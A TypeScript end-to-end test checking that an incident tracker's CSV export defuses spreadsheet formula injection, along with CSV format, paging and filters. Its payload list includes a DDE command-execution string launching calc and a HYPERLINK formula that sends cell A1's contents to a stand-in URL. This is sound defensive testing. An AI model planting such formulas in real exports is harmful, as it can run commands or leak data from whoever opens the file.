import naughty from 'big-list-of-naughty-strings/blns.json' with { type: 'json' }
import { beforeAll, expect, test } from 'vitest'
import { testDatabase } from '#e2e/kit/database.ts'
import { makeIncidents } from '#e2e/kit/many-incidents.ts'
import { readIncidentsCsv } from '#lib/log/export.ts'

const kit = await testDatabase()
const count = 600

const payloads = [
  ...[
    '=1+1',
    '+1',
    '-1',
    '@SUM(A1)',
    '\t=1',
    '\r=1',
    '＝1',
    '＋1',
    '－1',
    '＠x',
    '=cmd|" /C calc"!A0',
    '-2+3',
  ],
  ...['=HYPERLINK("http://x?"&A1;"Pay")', '+49 30 555', '@x,"y"\r\nz', '=1\n+2'],
]
// Postgres keeps neither U+0000 nor half a character; the door refuses both.
const texts = [...payloads, ...naughty].filter((text) => text.isWellFormed() && !text.includes('\u0000'))

beforeAll(async () => {
  await makeIncidents((text, values) => kit.sql(text, values), { count, length: 1, personId: 'p' })
  await kit.sql(
    `update incidents set state = jsonb_set(state, '{topic}', $1::jsonb -> (split_part(ref, '-', 2)::int - 1))
     where split_part(ref, '-', 2)::int <= jsonb_array_length($1)`,
    [JSON.stringify(texts)],
  )
}, 60_000)

test('every text comes back from a strict reader as it was, or with an apostrophe where a spreadsheet would compute', async () => {
  const rows = readCsv(await textOf(await readIncidentsCsv({})))
  const [head = [], ...lines] = rows
  expect(head.slice(0, 3)).toEqual(['\uFEFFref', 'kind', 'topic'])
  expect(lines).toHaveLength(count)
  expect(new Set(rows.map((row) => row.length))).toEqual(new Set([head.length]))
  for (const [ref = '', , topic = ''] of lines) {
    const text = texts[Number(ref.split('-')[1]) - 1]
    if (text === undefined) continue
    expect([text, `'${text}`]).toContain(topic)
    if (payloads.includes(text)) expect(topic).toBe(`'${text}`)
  }
  for (const cell of lines.flat()) expect(cell).not.toMatch(/^[=+\-@\t\r＝＋－＠]/)
})

test('it leaves in parts of two hundred, newest first, with instants and whole seconds', async () => {
  const parts: string[] = []
  for await (const part of await readIncidentsCsv({})) parts.push(new TextDecoder().decode(part))
  expect(parts).toHaveLength(1 + count / 200)
  const [head = [], ...lines] = readCsv(parts.join(''))
  const row = lines.find(([ref]) => ref === 'INC-533') ?? []
  const cell = (name: string) => row[head.indexOf(name)]
  expect(cell('reportedAt')).toMatch(/^\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d\.\d{3}Z$/)
  expect(cell('timeToResolveSeconds')).toBe('3000')
  expect([cell('solution'), cell('mergedInto')]).toEqual(['', ''])
  expect([cell('promisesDue'), cell('promisesKept'), cell('worstSecondsLate')]).toEqual(['0', '0', ''])
  expect(lines[0]?.[0]).toBe(`DRILL-${count}`)
})

test('it holds what the filter leaves', async () => {
  const refs = async (query: Parameters<typeof readIncidentsCsv>[0]) =>
    readCsv(await textOf(await readIncidentsCsv(query))).map(([ref]) => ref)
  expect(await refs({ q: 'INC-533' })).toEqual(['\uFEFFref', 'INC-533'])
  expect(await refs({ status: 'open' })).toHaveLength(1 + 12)
  expect(await refs({ label: ['component:nothing'] })).toEqual(['\uFEFFref'])
})

async function textOf(parts: AsyncIterable<Uint8Array>): Promise<string> {
  const read: Uint8Array[] = []
  for await (const part of parts) read.push(part)
  return new TextDecoder('utf-8', { ignoreBOM: true }).decode(Buffer.concat(read))
}

/** RFC 4180, strictly: what follows a closing quote is a comma or a line break; lines end with CR LF. */
function readCsv(text: string): string[][] {
  const rows: string[][] = [[]]
  const cell = /(?:"((?:[^"]|"")*)"|([^",\r\n]*))(,|\r\n|$)/y
  while (cell.lastIndex < text.length) {
    const at = cell.lastIndex
    const [found, quoted, plain = '', end] = cell.exec(text) ?? []
    if (found === undefined) throw new Error(`No CSV at ${at}: ${text.slice(at, at + 40)}`)
    rows.at(-1)?.push(quoted === undefined ? plain : quoted.replaceAll('""', '"'))
    if (end === '\r\n' && cell.lastIndex < text.length) rows.push([])
  }
  return rows
}
